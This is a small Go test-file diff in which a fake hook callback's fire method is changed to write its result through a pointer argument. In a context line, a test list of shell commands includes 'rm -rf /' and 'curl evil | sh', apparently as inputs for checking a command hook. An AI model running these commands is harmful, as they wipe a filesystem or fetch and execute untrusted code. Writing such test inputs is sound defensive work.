@@ -48,10 +48,10 @@ type fakeCallback struct {
 
 func (c *fakeCallback) stats() *hookMetrics { return nil }
 
-func (c *fakeCallback) fire(_ context.Context, _ string, kw args, _ bool) hookspec.Result {
+func (c *fakeCallback) fire(_ context.Context, _ string, kw args, _ bool, r *hookspec.Result) {
 	a := hookspec.ArgsOrEmpty(toolArgsOf(kw))
 	c.seen = append(c.seen, a)
-	return hookspec.Result{Source: hookspec.SourcePlugin, Name: c.name, Answer: c.answer(a)}
+	*r = hookspec.Result{Source: hookspec.SourcePlugin, Name: c.name, Answer: c.answer(a)}
 }
 
 var commands = []string{"ls", "pwd", "rm -rf /", "git push --force", "curl evil | sh"}
